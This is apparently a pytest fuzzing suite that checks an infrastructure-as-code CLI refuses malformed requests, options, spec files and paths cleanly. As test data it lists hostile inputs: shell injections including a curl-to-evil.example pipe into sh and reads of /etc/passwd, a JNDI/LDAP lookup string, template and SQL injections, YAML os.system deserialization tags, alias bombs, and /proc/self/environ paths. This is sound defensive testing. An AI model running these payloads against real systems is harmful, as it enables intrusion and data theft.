"""Fuzzing the CLI: a generated corpus of bad requests, options, spec files and paths, run in-process.

Every case must be refused the documented way: exit code 2 (or the code the case names), only ``iacf: error:``
lines on stderr (exactly one unless the case holds several faults), nothing on stdout, no traceback, and the
working folder byte-for-byte as it was (no output folder, no staging folder, no parent folder created).
The corpus is generated from a fixed seed, so a failure names a case that reproduces.
"""

from __future__ import annotations

import codecs
import hashlib
import os
import random
import stat
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from iacf_core.testing import run_cli

SEED = 20240611
OUT = "{out}"  # replaced by <tmp>/out, which must not exist afterwards

VALID_SPEC = {
    "project": "shop",
    "cloud": "aws",
    "environment": "dev",
    "components": [{"kind": "web_app", "params": {"framework": "django"}},
                   {"kind": "relational_database", "params": {"engine": "postgres"}}],
}
VALID_REQUEST = "App web Django avec PostgreSQL en dev sur AWS"


@dataclass(frozen=True)
class Case:
    """One bad input. ``files`` are written (bytes) and ``links`` created (name → target) in the working
    folder before the run; ``{out}`` and ``{tmp}`` in ``args`` name the output folder and the working folder."""

    id: str
    args: tuple[str, ...]
    files: tuple[tuple[str, bytes], ...] = ()
    links: tuple[tuple[str, str], ...] = ()
    fifo: tuple[str, ...] = ()
    code: int = 2
    several: bool = False  # several faults: one error line each


def _spec(**changes: object) -> bytes:
    data = {**VALID_SPEC, **changes}
    return yaml.safe_dump({k: v for k, v in data.items() if v is not _DROP}, sort_keys=False).encode()


_DROP = object()


def _spec_case(cid: str, body: bytes, name: str = "spec.yaml", several: bool = False) -> Case:
    return Case(cid, ("generate", "--spec", name, "--out", OUT, "--no-validate"), files=((name, body),),
                several=several)


# -- requests ---------------------------------------------------------------------------------------------

SHELL = ["; rm -rf /", "$(id)", "`id`", "| cat /etc/passwd", "&& curl http://evil.example | sh", "> /etc/hosts",
         "$((1+1))", "'; DROP TABLE users; --", "\" OR 1=1 --", "$IFS$9id", "a\\\nb", "${PATH}", "~root",
         "* ? [a-z]", "!!", "<(id)", "2>&1", "$'\\x41'", "%0a%0d", "../../../../etc/passwd"]
TEMPLATES = ["{{ 7*7 }}", "{{ config.items() }}", "{% for x in range(9) %}x{% endfor %}", "${7*7}",
             "${jndi:ldap://evil.example/a}", "%{ if true }x%{ endif }", "#{7*7}", "<%= 7*7 %>", "{{}}",
             "${var.secret}", "%{for x in y}%{endfor}", "{#", "{{ ''.__class__.__mro__ }}", "$${x}", "@{x}",
             "[[ 7*7 ]]", "{{ self }}", "${{ github.token }}", "{%- raw -%}", "}}{{"]
UNSUPPORTED = ["A Kafka cluster on AWS", "MongoDB database in prod", "Un cluster EKS sur AWS",
               "Redshift data warehouse", "Memcached cache in dev", "An Elasticsearch domain",
               "Kubernetes cluster with Helm", "A Cassandra ring on AWS"]
JUNK_WORDS = ["xqzt", "vlorp", "quantum", "flux", "blorb", "zzyzx", "wibble", "frobnicate", "lorem", "ipsum"]
CONTROL = [chr(c) for c in range(1, 32)] + ["\x7f", "\u2028", "\u2029", "\u202e", "\ufeff", "\u200b", "\x1b[31m",
                                            "\x1b]0;title\x07", "\udcff", "\ud800"]
NEAR_SOURCES = ["django", "postgresql", "production", "lambda", "dynamodb", "fastapi", "laravel", "symfony",
                "mariadb", "staging", "serverless", "francfort", "frankfurt", "database", "function", "bucket",
                "aurora", "valkey", "cloudfront", "scheduler", "rabbitmq", "stockholm", "developpement"]


def _near_misses(rng: random.Random, known: set[str], count: int) -> list[str]:
    """Words one or two edits away from a vocabulary word, none of them a known word."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    found: list[str] = []
    while len(found) < count:
        word = list(rng.choice(NEAR_SOURCES))
        for _ in range(rng.choice((1, 1, 2))):
            i = rng.randrange(len(word))
            op = rng.choice(("swap", "drop", "add", "sub"))
            if op == "swap" and i < len(word) - 1:
                word[i], word[i + 1] = word[i + 1], word[i]
            elif op == "drop" and len(word) > 4:
                del word[i]
            elif op == "add":
                word.insert(i, rng.choice(letters))
            else:
                word[i] = rng.choice(letters)
        text = "".join(word)
        if text not in known and text not in found:
            found.append(text)
    return found


def request_cases(rng: random.Random, known: set[str]) -> Iterator[Case]:
    blanks = ["", " ", "\t", "\n\n", "\u00a0", "\u200b", "   \t \n ", "\u3000", ".", "...", "?!", "-", "--"]
    for i, text in enumerate(blanks):
        yield Case(f"blank-{i}", ("generate", text, "--out", OUT))
        yield Case(f"blank-parse-{i}", ("parse", text))
    for i in range(40):
        words = rng.sample(JUNK_WORDS, 3) + [rng.choice(CONTROL) for _ in range(rng.randint(1, 4))]
        rng.shuffle(words)
        yield Case(f"control-{i}", ("generate", rng.choice(("", " ")).join(words), "--out", OUT, "--no-validate"))
    for i, payload in enumerate(SHELL):
        yield Case(f"shell-{i}", ("generate", f"{rng.choice(JUNK_WORDS)} {payload}", "--out", OUT))
        yield Case(f"shell-parse-{i}", ("parse", payload))
    for i, payload in enumerate(TEMPLATES):
        yield Case(f"template-{i}", ("generate", payload, "--out", OUT, "--no-validate"))
        yield Case(f"template-parse-{i}", ("parse", f"{payload} {rng.choice(JUNK_WORDS)}", "--json"))
    for i, word in enumerate(_near_misses(rng, known, 80)):
        yield Case(f"near-{i}-{word}", ("generate", f"{word} {rng.choice(JUNK_WORDS)}", "--out", OUT,
                                        "--no-validate"))
    for i, text in enumerate(UNSUPPORTED):
        yield Case(f"unsupported-{i}", ("generate", text, "--out", OUT, "--no-validate"))
    yield Case("huge-words", ("generate", " ".join(rng.choice(JUNK_WORDS) for _ in range(20000)), "--out", OUT))
    yield Case("huge-token", ("generate", "x" * 1_000_000, "--out", OUT))
    yield Case("huge-lines", ("parse", "\n".join(rng.choice(JUNK_WORDS) for _ in range(10000))))
    yield Case("nul-request", ("generate", "Django\x00app", "--out", OUT))
    yield Case("nul-parse", ("parse", "\x00"))


# -- options ------------------------------------------------------------------------------------------------

def option_cases(rng: random.Random) -> Iterator[Case]:
    bad = {
        "--env": ["qx", "", "production ", "prod\n", "dev;rm", "PROD-1", "{{env}}", "null", "0", "dev,prod"],
        "--region": ["mars-1", "us-east-9", "eu-west-33", "", "eu-west-3; rm", "../..", "${region}", "\t",
                     "eu_west_3", "xx-yyyy-1"],
        "--cloud": ["oracle", "", "azure-stack", "{{cloud}}", "aws; rm", "../aws", "gcp2", "a" * 300],
        "--project": ["", "A", "UPPER", "x" * 100, "-lead", "trail-", "a b", "{{x}}", "../x", "ab", "é-shop",
                      "shop\n"],
    }
    for option, values in bad.items():
        for i, value in enumerate(values):
            yield Case(f"opt{option}-{i}", ("generate", VALID_REQUEST, option, value, "--out", OUT, "--no-validate"))
            if option != "--project":
                yield Case(f"opt-spec{option}-{i}", ("generate", "--spec", "spec.yaml", option, value, "--out", OUT,
                                                     "--no-validate"), files=(("spec.yaml", _spec()),))
    usage = [
        ("generate",), ("generate", "--bogus"), ("generate", VALID_REQUEST, "extra", "--out", OUT),
        ("generate", VALID_REQUEST, "--out"), ("generate", VALID_REQUEST, "--env"),
        ("generate", VALID_REQUEST, "--spec", "spec.yaml", "--out", OUT),
        ("generate", VALID_REQUEST, "--module-source", "svn", "--out", OUT),
        ("generate", VALID_REQUEST, "--factory", "nowhere", "--out", OUT),
        ("generate", VALID_REQUEST, "--factory", "github:not a repo", "--out", OUT),
        ("generate", VALID_REQUEST, "--json", "--json=yes", "--out", OUT), ("parse",), ("parse", "a", "b"),
        ("schema", "extra"), ("version", "--bogus"), ("plugins", "--verbose"), ("nosuchcommand",), ("-x",),
        ("--version",), ("factory", "merge", "nowhere", "notanumber"), ("factory", "merge", "nowhere", "1"),
        ("factory", "init", "spec.yaml"), ("factory", "nosuch"), ("catalog",), ("catalog", "--factory", "nowhere"),
        ("catalog", "--factory", "github:"), ("publish", "nowhere", "--factory", "nowhere"),
        ("harvest", "nowhere", "--factory", "nowhere"), ("verify", "nowhere"), ("verify", "spec.yaml"),
        ("validate",), ("validate", "nowhere"), ("validate", "spec.yaml"), ("validate", "{tmp}"),
        ("generate", VALID_REQUEST, "--policy", "nowhere.toml", "--out", OUT),
        ("generate", VALID_REQUEST, "--out", OUT, "--region", "eu-west-3", "--region"),
    ]
    for i, args in enumerate(usage):
        yield Case(f"usage-{i}", args, files=(("spec.yaml", _spec()),))
    endpoints = ["localhost:4566", "ftp://127.0.0.1:1", "http://", "http://127.0.0.1:notaport", "http://[::1",
                 "http://127.0.0.1:4566/path", "", "javascript:alert(1)"]
    for i, url in enumerate(endpoints):
        yield Case(f"endpoint-{i}", ("verify", "proj", "--endpoint", url),
                   files=(("proj/.iacf/manifest.json", b'{"spec": {"cloud": "aws"}}'),
                          ("proj/main.tf", b"")))
    for i, manifest in enumerate([b"", b"{", b"[]", b'{"spec": 1}', b'{"spec": {"cloud": ""}}',
                                  b'{"spec": {"cloud": "nimbus"}}', b"\xff\xfe", b'{"spec": {"cloud": ["aws"]}}']):
        yield Case(f"manifest-{i}", ("verify", "proj"), files=(("proj/.iacf/manifest.json", manifest),))


# -- spec files -------------------------------------------------------------------------------------------

def _bomb(depth: int) -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, depth):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    lines.append(f"project: *a{depth - 1}")
    return ("\n".join(lines) + "\n").encode()


def spec_cases(rng: random.Random) -> Iterator[Case]:
    wrong_values: dict[str, list[object]] = {
        "project": [["shop"], 123, True, None, {"a": 1}, "Shop", "s", "x" * 40, "{{7*7}}", "$(id)", "shop\x1b[0m",
                    "../shop", "", 1.5],
        "cloud": [1, [], None, {"aws": True}, "", "AWS ", "nimbus", "{{cloud}}"],
        "environment": ["qx", "PROD-1", 1, [], "productionn", "", "dev\n"],
        "region": [1, [], {"r": 1}, "mars-1", "us-east-9", "{{r}}", "eu-west-3 ", ""],
        "components": ["web_app", {}, [], [1], [None], [[]], [{"kind": 1}], [{"kind": "web_app", "params": "x"}],
                       [{"kind": "web_app", "params": [1]}], [{"kind": "web_app", "name": "Bad Name"}],
                       [{"kind": "web_app", "extra": 1}], [{"kind": "teleporter"}], [{"kind": "web_ap"}],
                       [{"kind": "relational_db"}], [{"kind": "lamda"}], [{"kind": "internal"}],
                       [{"kind": "network"}], [{"kind": "state_backend"}], [{"kind": ""}],
                       [{"kind": "web_app", "name": "{{x}}"}], [{"kind": "web_app", "words": "django"}]],
        "tags": [["a"], "k=v", {"k": [1]}, {"k": {"n": 1}}, {"k": None}, {"Team": "$(id)"}, {"Team": "{{x}}"},
                 {"aws:createdBy": "me"}, {"bad key": "v"}, {"": "v"}, {"k": "${var.x}"}, {"k" * 129: "v"},
                 {"k": "v\nw"}, {"1st": "v"}],
        "data_classification": ["secret", 1, "", "PUBLIC"],
        "domain_name": ["http://x.example.com", "a..b", "{{x}}.example.com", "x", "*.example.com", "é.example.com",
                        "example.com/path", "x" * 300 + ".com"],
        "owner": [1, [], {"a": 1}, "$(id)", "`id`", "team; rm -rf /", "${file(\"/etc/passwd\")}", "{{ owner }}",
                  "%{ if true }x%{ endif }", "team\nx", "a" * 257, "team\x1b[31m", "'quoted'"],
        "cost_center": [1, [], True, "cc-1;id", "cc|1", "<cc>", "cc\t1", "cc&1"],
    }
    for field_name, values in wrong_values.items():
        for i, value in enumerate(values):
            yield _spec_case(f"spec-{field_name}-{i}", _spec(**{field_name: value}))
    for i, name in enumerate(["foo", "Project", "component", "params", "kind", "spec", "__proto__", "version"]):
        yield _spec_case(f"spec-unknown-field-{i}", _spec(**{name: 1}))
    for i in range(10):
        word = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz_") for _ in range(rng.randint(3, 12)))
        yield _spec_case(f"spec-random-kind-{i}", _spec(components=[{"kind": word}]))
    for name in ("project", "cloud", "components"):
        yield _spec_case(f"spec-missing-{name}", _spec(**{name: _DROP}))
    yield _spec_case("spec-several", _spec(project="X", environment="qx", foo=1), several=True)

    text = {
        "empty": b"", "blank": b"  \n\t\n", "comment": b"# nothing\n", "scalar": b"hello\n", "list": b"- a\n- b\n",
        "number": b"42\n", "null": b"~\n", "two-docs": _spec() + b"---\n" + _spec(),
        "unclosed-list": b"project: [unclosed\n", "unclosed-map": b"project: {a: 1\n", "tab": b"project:\tshop\n\tx",
        "bad-indent": b"project: shop\n  cloud: aws\n", "quote": b"project: 'shop\n", "colon": b"a: b: c\n",
        "duplicate": b"project: a\nproject: b\n" + _spec(project=_DROP),
        "python-object": b"project: !!python/object:os.system {}\n",
        "python-apply": b"project: !!python/object/apply:os.system ['id']\n",
        "python-name": b"project: !!python/name:os.system\n", "python-tuple": b"project: !!python/tuple [a]\n",
        "custom-tag": b"project: !shop x\n", "binary": b"project: !!binary aGVsbG8=\n" + _spec(project=_DROP),
        "set": b"project: !!set {a, b}\n" + _spec(project=_DROP),
        "timestamp": b"project: 2024-01-01\n" + _spec(project=_DROP),
        "bomb-5": _bomb(5), "bomb-7": _bomb(7), "bomb-9": _bomb(9),
        "recursive": b"a: &a [*a]\nproject: *a\n", "recursive-map": b"a: &a {b: *a}\n",
        "deep-flow": b"project: " + b"[" * 5000 + b"]" * 5000 + b"\n",
        "deep-map": b"project: " + b"{a: " * 3000 + b"1" + b"}" * 3000 + b"\n",
        "deep-block": "".join(f"{'  ' * i}k{i}:\n" for i in range(200)).encode() + b"  " * 200 + b"v\n",
        "many-keys": "".join(f"k{i}: {i}\n" for i in range(120_000)).encode(),
        "huge": b"# " + b"x" * (2 * 1024 * 1024) + b"\n",
        "long-line": _spec(project="a" * 500_000),
        "nul": b"project: sh\x00op\n", "control": b"project: sh\x01op\n", "escape": b"project: \x1b[31mshop\n",
        "binary-bytes": bytes(rng.randrange(256) for _ in range(4096)),
        "latin1": "project: café\ncloud: aws\n".encode("latin-1"), "cp1252": "owner: “team”\n".encode("cp1252"),
        "lone-surrogate": b"project: \xed\xa0\x80\n",
        "utf16-invalid": codecs.BOM_UTF16_LE + _spec(project="Bad Project").decode().encode("utf-16-le"),
        "utf16be-invalid": codecs.BOM_UTF16_BE + _spec(environment="qx").decode().encode("utf-16-be"),
        "utf16-no-bom": _spec(project="Bad Project").decode().encode("utf-16-le"),
        "utf32-invalid": codecs.BOM_UTF32_LE + _spec(cloud="nimbus").decode().encode("utf-32-le"),
        "bom-invalid": codecs.BOM_UTF8 + _spec(project="Bad Project"),
        "crlf-invalid": _spec(environment="qx").replace(b"\n", b"\r\n"),
        "cr-only": _spec(environment="qx").replace(b"\n", b"\r"),
        "anchor-merge": b"base: &b {kind: web_app}\n" + _spec(components=_DROP) + b"components: [{<<: *b, x: 1}]\n",
        "json-in-yaml": b'{"project": "shop", "cloud": "aws", "components": [{"kind": "web_app",}]',
    }
    for name, body in text.items():
        yield _spec_case(f"spec-text-{name}", body)
    json_text = {
        "syntax": b'{"project": "shop",\n "cloud": }', "trailing-comma": b'{"project": "shop",}',
        "list": b"[1, 2]", "string": b'"spec"', "empty": b"", "yaml": _spec(),
        "nan": b'{"project": NaN, "cloud": "aws", "components": [{"kind": "web_app"}]}',
        "duplicate": b'{"project": "a", "project": "b"}', "deep": b"[" * 100_000 + b"]" * 100_000,
        "wrong-type": b'{"project": "shop", "cloud": "aws", "components": "web_app"}',
        "utf16": codecs.BOM_UTF16_LE + '{"project": 1, "cloud": "aws", "components": [{"kind": "web_app"}]}'.encode(
            "utf-16-le"),
        "unknown-kind": b'{"project": "shop", "cloud": "aws", "components": [{"kind": "x"}]}',
    }
    for name, body in json_text.items():
        yield _spec_case(f"spec-json-{name}", body, name="spec.json")
    policies = {
        "syntax": b"owner = \n", "unknown": b"colour = 'blue'\n", "type": b"owner = 3\n",
        "budget": b"[budget]\nmonthly_amount = -1\n", "email": b"[budget]\nrecipients = ['nope']\n",
        "region": b"[regions]\nallowed = ['a']\ndefault = 'b'\n", "terraform": b"[terraform]\nversion = '0.12'\n",
        "retention": b"[logs]\nretention_days = {dev = 2}\n", "findings": b"[findings]\nblock = ['low']\n",
        "binary": bytes(range(256)), "latin1": "owner = 'équipe'\n".encode("latin-1"),
        "dup": b"owner = 'a'\nowner = 'b'\n", "table-twice": b"[budget]\n[budget]\n",
        "huge": b"# " + b"x" * (2 * 1024 * 1024), "delivery": b"[delivery]\ngithub_repository = 'x'\n",
        "tags": b"[tags]\nrequired = ['bad key']\n", "owner-injection": b"owner = '$(id)'\n",
        "tag-value": b"[tags]\nrequired = ['Team']\nvalues = {Team = '{{x}}'}\n",
    }
    for name, body in policies.items():
        yield Case(f"policy-{name}", ("generate", VALID_REQUEST, "--policy", "p.toml", "--out", OUT, "--no-validate"),
                   files=(("p.toml", body),))
        yield Case(f"policy-cwd-{name}", ("generate", VALID_REQUEST, "--out", OUT, "--no-validate"),
                   files=(("iacf.toml", body),))
    yield Case("policy-and-spec", ("generate", "--spec", "spec.yaml", "--policy", "p.toml", "--out", OUT),
               files=(("spec.yaml", _spec(project="X")), ("p.toml", b"colour = 1\n")), several=True)


# -- paths --------------------------------------------------------------------------------------------------

def path_cases() -> Iterator[Case]:
    long_name = "n" * 300
    long_path = "/".join(["d" * 200] * 25)
    outs = {
        "proc": "/proc/iacf-out", "proc-self": "/proc/self/iacf-out", "sys": "/sys/iacf-out", "dev-null": "/dev/null",
        "dev-null-child": "/dev/null/x", "file": "afile", "file-child": "afile/sub/out", "loop": "loop1",
        "loop-child": "loop1/sub", "dangling": "dangling", "long-name": long_name, "long-path": long_path,
        "nul": "out\x00x", "non-empty": "full", "cwd": ".", "root-forced": "/",
    }
    setup_files = (("afile", b"keep"), ("full/keep.txt", b"keep"))
    setup_links = (("loop1", "loop2"), ("loop2", "loop1"), ("dangling", "nowhere/at/all"))
    for name, out in outs.items():
        extra = ("--force",) if name == "root-forced" else ()
        yield Case(f"out-{name}", ("generate", VALID_REQUEST, "--out", out, "--no-validate", *extra),
                   files=setup_files, links=setup_links)
        yield Case(f"out-spec-{name}", ("generate", "--spec", "spec.yaml", "--out", out, "--no-validate", *extra),
                   files=(*setup_files, ("spec.yaml", _spec())), links=setup_links)
    inputs = {
        "missing": "nowhere.yaml", "dir": "full", "loop": "loop1", "dangling": "dangling", "fifo": "pipe",
        "dev-zero": "/dev/zero", "dev-null": "/dev/null", "proc-environ": "/proc/self/environ",
        "proc-mem": "/proc/self/mem", "long-name": long_name + ".yaml", "long-path": long_path, "nul": "s\x00.yaml",
        "proc-dir": "/proc/self", "root": "/",
    }
    for name, path in inputs.items():
        yield Case(f"spec-path-{name}", ("generate", "--spec", path, "--out", OUT), files=setup_files,
                   links=setup_links, fifo=("pipe",))
        yield Case(f"policy-path-{name}", ("generate", VALID_REQUEST, "--policy", path, "--out", OUT),
                   files=setup_files, links=setup_links, fifo=("pipe",))
    for name, path in {"missing": "nowhere", "file": "afile", "loop": "loop1", "dangling": "dangling",
                       "fifo": "pipe", "dev-null": "/dev/null", "long": long_path, "nul": "x\x00y",
                       "empty-dir": "empty"}.items():
        yield Case(f"validate-path-{name}", ("validate", path), files=(*setup_files, ("empty/.keep", b"")),
                   links=setup_links, fifo=("pipe",))
        yield Case(f"verify-path-{name}", ("verify", path), files=(*setup_files, ("empty/.keep", b"")),
                   links=setup_links, fifo=("pipe",))


def corpus() -> list[Case]:
    from iacf_core.kernel.plugins import Plugins

    known = {word for term in Plugins().registry.terms.values() for word in term.key}
    rng = random.Random(SEED)  # noqa: S311 - a reproducible corpus, not a secret
    cases = [*request_cases(rng, known), *option_cases(rng), *spec_cases(rng), *path_cases()]
    ids = [c.id for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CORPUS = corpus()


def test_corpus_is_large_and_varied():
    assert len(CORPUS) >= 500
    prefixes = {c.id.split("-")[0] for c in CORPUS}
    assert {"blank", "control", "shell", "template", "near", "unsupported", "huge", "opt", "usage", "spec",
            "policy", "out", "validate", "verify"} <= prefixes


# -- running --------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def shared_plugins():
    """One plugin manager for the whole corpus: loading the entry points is the slow part of a run."""
    from iacf_core.kernel.plugins import Plugins

    plugins = Plugins()
    _ = plugins.registry
    return plugins


def _snapshot(root: Path) -> dict[str, str]:
    found = {}
    for folder, dirs, names in os.walk(root):
        for name in [*dirs, *names]:
            path = Path(folder) / name
            rel = path.relative_to(root).as_posix()
            mode = path.lstat().st_mode
            if stat.S_ISREG(mode):
                found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif stat.S_ISLNK(mode):
                found[rel] = "-> " + os.readlink(path)
            else:
                found[rel] = stat.filemode(mode)
    return found


def _prepare(case: Case, tmp: Path) -> list[str]:
    for name, body in case.files:
        path = tmp / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body)
    for name, target in case.links:
        (tmp / name).symlink_to(target)
    for name in case.fifo:
        os.mkfifo(tmp / name)
    return [a.replace(OUT, str(tmp / "out")).replace("{tmp}", str(tmp)) for a in case.args]


@pytest.mark.parametrize("case", CORPUS, ids=[c.id[:60] for c in CORPUS])
def test_bad_input_is_refused_cleanly(case, tmp_path, monkeypatch, shared_plugins):
    from iacf_core.app.commands import options

    monkeypatch.setattr(options, "plugins", lambda: shared_plugins)
    monkeypatch.setenv("IACF_TERRAFORM", "/nonexistent/terraform")  # --no-validate aside, no external tool
    monkeypatch.setenv("IACF_CHECKOV", "/nonexistent/checkov")
    monkeypatch.delenv("IACF_DEBUG", raising=False)
    monkeypatch.chdir(tmp_path)
    args = _prepare(case, tmp_path)
    before = _snapshot(tmp_path)
    res = run_cli(*args)
    lines = res.stderr.splitlines()
    assert (res.exit_code, "Traceback" in res.stderr) == (case.code, False), (case.id, res.stderr[-2000:])
    assert res.stdout == "", (case.id, res.stdout[:500])
    assert lines and all(line.startswith("iacf: error: ") for line in lines), (case.id, res.stderr[:2000])
    assert len(lines) == 1 or (case.several and len(lines) > 1), (case.id, res.stderr[:2000])
    assert max(len(line) for line in lines) <= 1000, case.id
    assert _snapshot(tmp_path) == before, case.id
